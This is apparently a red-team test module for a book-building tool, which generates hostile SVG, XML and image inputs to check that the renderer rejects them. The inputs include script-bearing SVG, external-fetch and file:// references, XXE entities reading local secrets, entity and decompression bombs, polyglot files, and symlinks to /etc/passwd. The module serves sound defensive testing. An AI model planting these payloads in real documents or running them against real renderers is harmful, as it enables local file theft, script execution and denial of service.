"""Drawings that run, fetch or never end; pictures cut short, or of far more than they weigh."""
# ruff: noqa: E501 — hostile texts stand in one piece, as they are sent

from __future__ import annotations

import io
import os
import struct
import zlib
from collections.abc import Callable
from pathlib import Path

from PIL import Image

from redteam.attack import Attack, Way

NS = "xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'"
SHOWN = "---\ntitle: 題\n---\n\n![圖](images/a.{}){{alt=替}}\n"
SVG = Way(
    "drawing",
    {
        "chapters/images/a.svg": f"<svg {NS} width='90' height='90'><rect width='9' height='9'/><text x='5' y='20'>顯示無礙</text>@@</svg>",
        "chapters/one.md": SHOWN.format("svg"),
    },
)
SVG_PAGES = Way("drawing in pages", SVG.files, shows="%PDF", verb=("build", "-f", "pdf"))


def _png(
    width: int,
    height: int,
    *,
    colour: int = 0,
    depth: int = 1,
    rows: bytes | None = None,
    more: bytes = b"",
) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    head = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    data = zlib.compress(
        b"\0" * (height * (1 + (width * depth + 7) // 8)) if rows is None else rows, 9
    )
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + more
        + chunk(b"IDAT", data)
        + chunk(b"IEND", b"")
    )


def _saved(kind: str, **options: object) -> bytes:
    data = io.BytesIO()
    Image.radial_gradient("L").convert("RGB").save(data, kind, **options)
    return data.getvalue()


def _chunk(kind: bytes, size: int) -> bytes:
    data = b"a\0\0" + zlib.compress(b"\0" * size, 9)
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _picture(suffix: str) -> Way:
    kind = {"jpg": "JPEG"}.get(suffix, suffix.upper())
    return Way(
        f"{suffix} picture",
        {f"chapters/images/a.{suffix}": _saved(kind), "chapters/one.md": SHOWN.format(suffix)},
        shows="替",
    )


PNG, JPG, GIF, WEBP, TIFF = map(_picture, ("png", "jpg", "gif", "webp", "tiff"))

_ACTIVE = (
    "<script>evil()</script>",
    "<script href='@WEB@/a.js'/>",
    "<g onload='evil()'/>",
    "<a href='javascript:evil()'><text y='9'>x</text></a>",
    "<a xlink:href='java&#10;script:evil()'><text y='9'>x</text></a>",
    "<foreignObject width='9' height='9'><iframe xmlns='http://www.w3.org/1999/xhtml' src='@WEB@/'/></foreignObject>",
    "<image href='@WEB@/a.png' width='9' height='9'/>",
    "<image xlink:href='file://@OUT@/secret.svg' width='9' height='9'/>",
    "<image href='../../../outside/secret.svg' width='9' height='9'/>",
    "<image href='//127.0.0.1/a.png' width='9' height='9'/>",
    "<use href='@WEB@/a.svg#b'/>",
    "<use xlink:href='file://@OUT@/secret.svg#a'/>",
    "<rect width='9' height='9' fill='url(@WEB@/a#b)'/>",
    "<rect width='9' height='9' style='fill:url(@WEB@/a#b);background:url(@WEB@/b)'/>",
    "<style>@import '@WEB@/a.css'; rect { fill: url(@WEB@/b#c) }</style>",
    "<style>@font-face { font-family: a; src: url(file://@OUT@/secret.txt) }</style>",
    "<set attributeName='href' to='javascript:evil()'/>",
    "<animate attributeName='x' values='1;2' onbegin='evil()' dur='1s'/>",
    "<filter id='f'><feImage href='@WEB@/a.png'/></filter><rect filter='url(#f)' width='9' height='9'/>",
    "<image href='data:image/svg+xml,%3Csvg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22evil()%22/%3E' width='9' height='9'/>",
    "<image href='data:text/html,%3Cscript%3Eevil()%3C/script%3E' width='9' height='9'/>",
    "<handler type='text/javascript' xmlns:ev='http://www.w3.org/2001/xml-events' ev:event='load'>evil()</handler>",
    "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file://@OUT@/secret.txt' parse='text'/>",
    "<?xml-stylesheet href='@WEB@/a.css'?>",
    "<metadata><x xmlns='a:b' href='@WEB@/'/></metadata>",
    "<mpath href='@WEB@/a#b'/><textPath href='@WEB@/a#b'>x</textPath>",
    "<audio xmlns='http://www.w3.org/1999/xhtml' src='@WEB@/a' autoplay=''/>",
    "<cursor href='@WEB@/a'/><color-profile name='a' xlink:href='@WEB@/a'/>",
    "<rect width='9' height='9' xml:base='@WEB@/'/><image href='a.png' xml:base='@WEB@/'/>",
)
_ENDLESS = (
    "<g id='a0'><rect width='1' height='1'/></g>"
    + "".join(f"<g id='a{n}'>" + f"<use href='#a{n - 1}'/>" * 10 + "</g>" for n in range(1, 12)),
    "<g id='a'><use href='#a'/></g>",
    "<g id='a'><use href='#b'/></g><g id='b'><use href='#a'/></g>",
    "<line x2='9' stroke='red' stroke-dasharray='1e-9'/>",
    "<g>" * 5000 + "</g>" * 5000,
    "<rect width='1e300' height='1e300'/>",
    "<rect width='nan' height='inf' x='-1e999'/>",
    "<path d='" + "M0 0L9 9" * 100_000 + "'/>",
    "<path d='" + "a" * 200_000 + "'/>",
    "<rect width='1' height='1'/>" * 100_000,
    "<text y='9'>" + "字" * 300_000 + "</text>",
    "<pattern id='p' width='1e-6' height='1e-6' patternUnits='userSpaceOnUse'><rect width='1' height='1'/></pattern><rect width='90' height='90' fill='url(#p)'/>",
    "<linearGradient id='g' href='#h'/><linearGradient id='h' href='#g'/><rect width='9' height='9' fill='url(#g)'/>",
    "<clipPath id='c' clip-path='url(#c)'><rect width='9' height='9'/></clipPath><rect clip-path='url(#c)' width='9' height='9'/>",
    "<mask id='m' mask='url(#m)'><rect width='9' height='9' mask='url(#m)'/></mask><rect mask='url(#m)' width='9' height='9'/>",
    "<marker id='k'><path marker-end='url(#k)' d='M0 0L9 9'/></marker><path marker-end='url(#k)' d='M0 0L9 9'/>",
    "<filter id='f'><feGaussianBlur stdDeviation='1e9'/><feTurbulence baseFrequency='1e9' numOctaves='999999'/></filter><rect filter='url(#f)' width='9' height='9'/>",
    "<style>" + "g " * 3000 + "{ fill: red }</style>",
    "<g transform='" + "rotate(1)" * 50_000 + "'/>",
    "<svg viewBox='0 0 1e-300 1e-300' width='1' height='1'><rect width='1' height='1'/></svg>",
    "<image href='a.svg' width='9' height='9'/>",
)
_WHOLE = {
    "an entity that reads a file": f"<!DOCTYPE a [<!ENTITY x SYSTEM 'file://@OUT@/secret.txt'>]><svg {NS} width='9' height='9'><text>&x;</text></svg>",
    "a parameter entity": f"<!DOCTYPE a [<!ENTITY % x SYSTEM '@WEB@/a.dtd'> %x;]><svg {NS} width='9' height='9'/>",
    "an outer DTD": f"<!DOCTYPE svg SYSTEM '@WEB@/a.dtd'><svg {NS} width='9' height='9'/>",
    "entities in entities": "<!DOCTYPE a ["
    + "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else "bomb"}">' for n in range(9))
    + f"]><svg {NS} width='9' height='9'><text>&e8;</text></svg>",
    "a long entity often": f"<!DOCTYPE a [<!ENTITY x '{'a' * 50_000}'>]><svg {NS} width='9' height='9'><text>{'&x;' * 50_000}</text></svg>",
    "a stylesheet of the web": f"<?xml-stylesheet href='@WEB@/a.css'?><svg {NS} width='9' height='9'/>",
    "a page": "<html><script>evil()</script></html>",
    "a page in XHTML": "<html xmlns='http://www.w3.org/1999/xhtml'><script>evil()</script></html>",
    "a pixel without end": f"<svg {NS} width='1e9' height='1e9'><rect width='1e9' height='1e9'/></svg>",
    "no size": f"<svg {NS}><rect width='9' height='9'/></svg>",
    "nothing": "",
    "half a file": f"<svg {NS} width='9' height='9'><text>x",
    "UTF-7": "<?xml version='1.0' encoding='utf-7'?>+ADw-svg+AD4-",
    "UTF-16 said, none written": f"<?xml version='1.0' encoding='utf-16'?><svg {NS}/>",
    "another root": "<svg/>",
    "a script in the root": f"<svg {NS} onload='evil()' width='9' height='9'><rect width='9' height='9'/></svg>",
    "attributes twice": f"<svg {NS} width='9' width='9'/>",
}


def _as_link(name: str, target: str) -> Callable[[Path, Path], None]:
    def make(book: Path, out: Path) -> None:
        path = book / "chapters/images" / name
        path.unlink()
        if target == "pipe":
            os.mkfifo(path)
        else:
            path.symlink_to(target if target.startswith(("/", "a.")) else out / target)

    return make


def _cut(way: Way, suffix: str) -> Attack:
    path = f"chapters/images/a.{suffix}"
    whole = way.files[path]
    assert isinstance(whole, bytes)
    return Attack(way, "cut short", codes="NK302", more={path: whole[: len(whole) * 2 // 5]})


def _with(way: Way, name: str, content: bytes, codes: str = "NK302 NK303 NK316") -> Attack:
    (path,) = (path for path in way.files if "images" in path)
    return Attack(way, name, codes=codes, more={path: content})


def _name(text: str) -> str:
    return ascii(text)[1:50].replace("[", "(").replace("]", ")")


ATTACKS = (
    *(Attack(SVG, _name(text), text) for text in (*_ACTIVE, *_ENDLESS)),
    *(
        Attack(SVG_PAGES, _name(text), text)
        for text in (_ACTIVE[6], _ACTIVE[7], _ACTIVE[8], _ACTIVE[14], *_ENDLESS)
    ),
    *(Attack(SVG, name, more={"chapters/images/a.svg": text}) for name, text in _WHOLE.items()),
    *(
        Attack(
            SVG, f"a link to {target}", codes="NK301 NK302 NK303", make=_as_link("a.svg", target)
        )
        for target in ("secret.svg", "/dev/zero", "pipe", "/etc/passwd", "a.svg", "gone")
    ),
    *(_cut(way, way.name.split()[0]) for way in (PNG, JPG, GIF, WEBP, TIFF)),
    _with(PNG, "a bomb of one bit", _png(40_000, 40_000, rows=b"\0" * 9)),
    _with(PNG, "a bomb that is whole", _png(13_000, 13_000)),
    _with(PNG, "a size of nothing", _png(0, 0, rows=b"")),
    _with(PNG, "a size beyond all", _png(2**31 - 1, 2**31 - 1, rows=b"")),
    _with(PNG, "a text of 200 MB", _png(9, 9, more=_chunk(b"zTXt", 200_000_000)), ""),
    _with(PNG, "a profile of 150 MB", _png(9, 9, more=_chunk(b"iCCP", 150_000_000)), ""),
    _with(PNG, "a drawing that runs", f"<svg {NS} onload='evil()'/>".encode()),
    _with(PNG, "a program", b"#!/bin/sh\ntouch ran\n"),
    _with(PNG, "PostScript", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(ran) (w) file\n"),
    _with(
        PNG, "a PDF", b"%PDF-1.7\n1 0 obj <</OpenAction <</S /JavaScript /JS (evil())>> >> endobj"
    ),
    _with(
        GIF,
        "a million frames",
        b"GIF89a\xff\xff\xff\xff\0\0\0" + (b",\0\0\0\0\1\0\1\0\0\2\2D\1\0") * 100_000 + b";",
    ),
    _with(
        GIF,
        "a screen of 65535",
        b"GIF89a\xff\xff\xff\xff\0\0\0,\0\0\0\0\xff\xff\xff\xff\0\2\2D\1\0;",
    ),
    _with(
        JPG,
        "a size of 65500",
        _saved("JPEG").replace(b"\x01\x00\x01\x00\x03", b"\xff\xdc\xff\xdc\x03", 1),
    ),
    _with(TIFF, "directories in a circle", b"II*\0\x08\0\0\0\0\0\x08\0\0\0"),
    _with(
        WEBP,
        "a lie about its size",
        b"RIFF\xff\xff\xff\xffWEBPVP8X\x0a\0\0\0\0\0\0\0\xff\xff\xff\xff\xff\xff",
    ),
)
